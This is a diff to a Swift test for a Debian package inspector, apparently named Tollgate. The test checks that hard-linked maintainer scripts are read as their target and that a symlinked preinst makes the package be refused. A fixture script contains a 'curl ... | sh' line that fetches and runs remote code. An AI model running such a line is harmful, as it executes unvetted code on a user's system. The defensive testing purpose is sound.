@@ -109,10 +109,12 @@ import TollgateTestSupport
         #expect(fetch.debian?.debMembers == ["debian-binary", "control.tar.xz", "data.tar.xz"])
     }
 
-    /// A maintainer script may be a link to another control member: dpkg extracts control.tar and runs the script
-    /// from there, so a `postinst` hard-linked to `./x` runs `x`. The script is read as the member it names (as
-    /// `dpkg-deb --control` extracts it), a link that names nothing in control.tar is said, and neither is skipped.
-    @Test func linkedMaintainerScriptsAreReadAsWhatTheyName() throws {
+    /// A maintainer script may be a link: dpkg extracts control.tar and runs the scripts from there. A `postinst`
+    /// hard-linked to `./x` runs `x`, and is read as `x` (as `dpkg-deb --control` extracts it); a maintainer script
+    /// that is a symbolic link runs whatever it names — a member later in the archive (`dpkg-deb --build` writes
+    /// them sorted by name), a file of the system — and the package is refused as unreadable; any other linked
+    /// member is listed and said.
+    @Test func linkedMaintainerScriptsAreReadAsWhatTheyNameOrRefused() throws {
         let dir = try TestPaths.temporaryDirectory()
         defer { try? FileManager.default.removeItem(at: dir) }
         let made = try Run.shell(
@@ -121,27 +123,35 @@ import TollgateTestSupport
             cd '\(dir.path)' && mkdir c d
             printf 'Package: linked\\nVersion: 1.0\\nArchitecture: all\\nMaintainer: A <a@example.org>\\nDescription: x\\n x\\n' > c/control
             printf '#!/bin/sh\\ncurl -fsSL https://example.org/i | sh\\n' > c/x && chmod 755 c/x
-            ln c/x c/postinst && ln -s x c/prerm && ln -s /bin/true c/postrm
-            tar -cf control.tar --owner=0 --group=0 -C c ./control ./x ./postinst ./prerm ./postrm
+            ln c/x c/postinst && ln -s x c/md5sums
+            tar -cf control.tar --owner=0 --group=0 -C c ./control ./x ./postinst ./md5sums
             tar -cf data.tar --owner=0 --group=0 -C d .
             echo 2.0 > debian-binary
             ar rc linked.deb debian-binary control.tar data.tar
             dpkg-deb --control linked.deb extracted
+            mkdir -p s/DEBIAN && cp c/control s/DEBIAN/ && cp c/x s/DEBIAN/zz && ln -s zz s/DEBIAN/preinst
+            dpkg-deb --root-owner-group --build s symlinked.deb > /dev/null
             """)
         try #require(made.status == 0, "\(made.stderr)")
         let facts = try DebReader.read(path: dir.appendingPathComponent("linked.deb").path)
         let extracted = try String(contentsOf: dir.appendingPathComponent("extracted/postinst"), encoding: .utf8)
         #expect(facts.scripts?.first { $0.name == "postinst" }?.body == extracted)
-        #expect(facts.scripts?.first { $0.name == "prerm" }?.body == extracted)
-        #expect(facts.scripts?.contains { $0.name == "postrm" } == false)
-        #expect(facts.debian?.controlMembers == ["control", "x", "postinst", "prerm", "postrm"])
+        #expect(facts.debian?.controlMembers == ["control", "x", "postinst", "md5sums"])
         #expect(
             facts.warnings.contains("control.tar member postinst is a hard link to ./x: read as that member"),
             "\(facts.warnings)")
         #expect(
-            facts.warnings.contains {
-                $0.hasPrefix("control.tar member postrm is a symbolic link to /bin/true") && $0.hasSuffix("not read")
-            }, "\(facts.warnings)")
+            facts.warnings.contains("control.tar member md5sums is a symbolic link to x: read as that member"),
+            "\(facts.warnings)")
+        let symlinked = dir.appendingPathComponent("symlinked.deb").path
+        do {
+            _ = try DebReader.read(path: symlinked)
+            Issue.record("a symbolically linked preinst was read")
+        } catch {
+            #expect(error.reason.hasPrefix("maintainer script preinst is a symbolic link to zz"), "\(error.reason)")
+        }
+        let gate = try Run.tollgate(["gate", "--no-history", symlinked])
+        #expect(gate.status == 2, "\(gate.stdout) \(gate.stderr)")
     }
 
     @Test func damagedPackagesFailWithAReason() throws {
